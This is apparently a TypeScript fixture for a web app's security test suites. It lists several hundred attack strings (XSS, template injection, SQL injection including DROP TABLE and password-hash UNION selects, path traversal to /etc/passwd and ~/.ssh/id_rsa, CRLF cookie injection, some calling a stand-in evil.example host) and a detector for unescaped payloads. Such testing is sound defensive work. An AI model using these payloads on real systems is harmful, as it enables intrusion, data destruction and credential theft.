/**
 * Attack strings for the attack test suites (test/integration/attacks.test.ts, test/e2e/attacks.test.ts):
 * XSS (tags, attribute breaking, SVG, javascript: URLs, template injection), SQL injection, path traversal
 * (plain, encoded, double-encoded, NUL bytes), CRLF header injection, unicode oddities and very long strings.
 * Hand-written seeds are multiplied by systematic variations (case, encodings, wrappers), so the list is
 * deterministic and larger than 300 entries.
 *
 * Every XSS payload that would run script calls `alert(…)` or sets `window.__xss`, so that a browser test can
 * trap it with a dialog listener and a global check.
 */

export type AttackKind = "xss" | "sql" | "traversal" | "crlf" | "unicode" | "long" | "template";

export interface AttackString {
  kind: AttackKind;
  value: string;
}

const XSS_SEEDS = [
  `<script>alert(1)</script>`,
  `<script>window.__xss=1</script>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `"><script>alert(1)</script>`,
  `'><script>alert(1)</script>`,
  `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `</script><script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src=x onerror="window.__xss=1">`,
  `"><img src=x onerror=alert(1)>`,
  `'><img src=x onerror=alert(1)>`,
  `" onmouseover="alert(1)`,
  `' onmouseover='alert(1)`,
  `" autofocus onfocus="alert(1)`,
  `' autofocus onfocus='alert(1)' x='`,
  `"><svg onload=alert(1)>`,
  `<svg/onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<body onload=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<a href="javascript:alert(1)">x</a>`,
  `javascript:alert(1)`,
  `JaVaScRiPt:alert(1)`,
  `java\tscript:alert(1)`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)>`,
  `<marquee onstart=alert(1)>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link rel=import href=//evil.example>`,
  `<style>@import 'javascript:alert(1)';</style>`,
  `<div style="background:url(javascript:alert(1))">`,
  `<form action=javascript:alert(1)><button>x</button></form>`,
  `<isindex type=image src=1 onerror=alert(1)>`,
  `\u003cscript\u003ealert(1)\u003c/script\u003e`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
  `%253Cscript%253Ealert(1)%253C%252Fscript%253E`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<script>alert(1);//<</script>`,
  `<img """><script>alert(1)</script>">`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `"-alert(1)-"`,
  `'-alert(1)-'`,
  `\\";alert(1);//`,
  `</script><img src=x onerror=alert(1)>`,
  `{"__proto__":{"x":"<img src=x onerror=alert(1)>"}}`,
];

const TEMPLATE_SEEDS = [
  `{{constructor.constructor('alert(1)')()}}`,
  `{{7*7}}`,
  `\${7*7}`,
  `\${alert(1)}`,
  `<%= 7*7 %>`,
  `#{7*7}`,
  `{{=alert(1)}}`,
  `[[${"${"}alert(1)}]]`,
  `{% raw %}{{alert(1)}}{% endraw %}`,
  `__proto__`,
  `constructor`,
  `prototype`,
];

const SQL_SEEDS = [
  `'`,
  `''`,
  `"`,
  `\\'`,
  `' OR '1'='1`,
  `' OR 1=1 --`,
  `" OR "1"="1`,
  `admin'--`,
  `' OR ''='`,
  `1' OR '1'='1' /*`,
  `'; drop table inquiries; --`,
  `'; DROP TABLE users; --`,
  `'; DELETE FROM sessions; --`,
  `'; UPDATE memberships SET role='body_admin'; --`,
  `'; TRUNCATE events; --`,
  `1; SELECT pg_sleep(5); --`,
  `' AND pg_sleep(5) IS NULL --`,
  `' UNION SELECT NULL --`,
  `' UNION SELECT email, password_hash FROM users --`,
  `' UNION ALL SELECT secret_hash FROM sessions --`,
  `1 UNION SELECT version()`,
  `') OR ('1'='1`,
  `')) OR (('1'='1`,
  `%' OR '%'='`,
  `%`,
  `_`,
  `\\`,
  `$1`,
  `$$ language plpgsql $$`,
  `'::text`,
  `00000000-0000-0000-0000-000000000000' OR '1'='1`,
  `1 AND 1=CAST((SELECT current_user) AS int)`,
  `' || (SELECT current_setting('server_version')) || '`,
  `1e308`,
  `-1`,
  `0x7fffffff`,
  `NULL`,
  `null`,
  `undefined`,
  `true`,
  `[]`,
  `{}`,
  `/* comment */`,
  `-- comment`,
  `COPY users TO '/tmp/x'`,
  `\\copy users to '/tmp/x'`,
];

const TRAVERSAL_SEEDS = [
  `../../etc/passwd`,
  `../../../../../../etc/passwd`,
  `..\\..\\..\\windows\\win.ini`,
  `/etc/passwd`,
  `....//....//etc/passwd`,
  `..%2f..%2fetc%2fpasswd`,
  `%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
  `%2e%2e/%2e%2e/etc/passwd`,
  `%252e%252e%252f%252e%252e%252fetc%252fpasswd`,
  `..%252f..%252fetc%252fpasswd`,
  `%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd`,
  `..%c0%af..%c0%afetc%c0%afpasswd`,
  `..%5c..%5cwindows%5cwin.ini`,
  `../../etc/passwd%00`,
  `../../etc/passwd\u0000.html`,
  `%00`,
  `\u0000`,
  `file:///etc/passwd`,
  `/proc/self/environ`,
  `../../.env`,
  `../../package.json`,
  `../build/server/index.js`,
  `.git/config`,
  `~/.ssh/id_rsa`,
  `//evil.example`,
];

const CRLF_SEEDS = [
  `\r\nSet-Cookie: quaestio_session=evil`,
  `%0d%0aSet-Cookie:%20quaestio_session=evil`,
  `%0D%0ALocation:%20https://evil.example`,
  `x\r\nX-Injected: 1`,
  `%E5%98%8A%E5%98%8DSet-Cookie:%20evil=1`,
  `\nLocation: https://evil.example`,
  `%0a%0a<script>alert(1)</script>`,
];

const UNICODE_SEEDS = [
  `\u202Egnp.exe`,
  `\u200B\u200C\u200D\uFEFF`,
  `Ⓐⓓⓜⓘⓝ`,
  `ＡＤＭＩＮ`,
  `ａｄｍｉｎ＠ｅｖｉｌ．ｅｘａｍｐｌｅ`,
  `\uD800`,
  `\uDFFF`,
  `😀👩‍👩‍👧‍👦🏳️‍🌈`,
  `Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇`,
  `\u0130stanbul ı İ ß ẞ`,
  `\u00e4 vs a\u0308`,
  `\u2028\u2029`,
  `\u0085`,
  `\t\v\f`,
  `\u001b[31mred`,
  `＜script＞alert(1)＜/script＞`,
  `\uFF1Cimg src=x onerror=alert(1)\uFF1E`,
  `e\u0301\u0301\u0301\u0301\u0301\u0301`,
  `١٢٣`,
  `𝕒𝕕𝕞𝕚𝕟`,
];

const LONG_SEEDS = [
  "A".repeat(1_000),
  "A".repeat(10_000),
  "<".repeat(2_000),
  "%".repeat(1_500),
  "../".repeat(500),
  "'".repeat(3_000),
  "ä".repeat(3_000),
  `${"<script>alert(1)</script>".repeat(200)}`,
];

/** Systematic variations of the XSS seeds: wrappers that break out of common contexts. */
function xssVariants(seed: string): string[] {
  return [seed, `x${seed}`, `${seed}x`, `">${seed}`, `'>${seed}`, `</p>${seed}<p>`, `</option></select>${seed}`];
}

function sqlVariants(seed: string): string[] {
  return [seed, `x${seed}`, `1${seed}`, `${seed}#`];
}

function traversalVariants(seed: string): string[] {
  return [seed, `a/${seed}`, encodeURIComponent(seed)];
}

function unique(values: AttackString[]): AttackString[] {
  const seen = new Set<string>();
  return values.filter((v) => (seen.has(v.value) ? false : (seen.add(v.value), true)));
}

export const ATTACK_STRINGS: readonly AttackString[] = unique([
  ...XSS_SEEDS.flatMap((s) => xssVariants(s).map((value) => ({ kind: "xss" as const, value }))),
  ...TEMPLATE_SEEDS.map((value) => ({ kind: "template" as const, value })),
  ...SQL_SEEDS.flatMap((s) => sqlVariants(s).map((value) => ({ kind: "sql" as const, value }))),
  ...TRAVERSAL_SEEDS.flatMap((s) => traversalVariants(s).map((value) => ({ kind: "traversal" as const, value }))),
  ...CRLF_SEEDS.map((value) => ({ kind: "crlf" as const, value })),
  ...UNICODE_SEEDS.map((value) => ({ kind: "unicode" as const, value })),
  ...LONG_SEEDS.map((value) => ({ kind: "long" as const, value })),
]);

/** Only the script-executing payloads, for the browser trap. */
export const SCRIPT_PAYLOADS: readonly string[] = ATTACK_STRINGS.filter(
  (a) => a.kind === "xss" && /alert\(1\)|__xss/.test(a.value),
).map((a) => a.value);

/**
 * Fragments that must never appear verbatim in a response body that reflected a payload: if one is there,
 * the payload was inserted as markup instead of text (as text, its "<" would be escaped).
 */
export const DANGEROUS_FRAGMENTS = [
  "<script>alert(",
  "<ScRiPt>alert(",
  "<script>window.__xss",
  "<img src=x onerror=",
  "<svg onload=",
  "<svg/onload=",
  "<body onload=",
  "<details open ontoggle=",
  '<iframe src="javascript:',
  '<a href="javascript:',
  "<input autofocus onfocus=",
  '<base href="//evil',
] as const;
// Attribute-breaking payloads (`" onmouseover="alert(1)`) are harmless as text — quotes need no escaping in
// a text node — and React escapes them inside attributes; the browser test catches them if they ever run.

/** The first dangerous fragment found verbatim in `html`, or null. */
export function findUnescapedPayload(html: string): string | null {
  return DANGEROUS_FRAGMENTS.find((f) => html.includes(f)) ?? null;
}

/** A deterministic sample (every n-th entry) of `values`, at most `size` long. */
export function sample<T>(values: readonly T[], size: number): T[] {
  if (values.length <= size) return [...values];
  const step = values.length / size;
  return Array.from({ length: size }, (_, i) => values[Math.floor(i * step)]!);
}
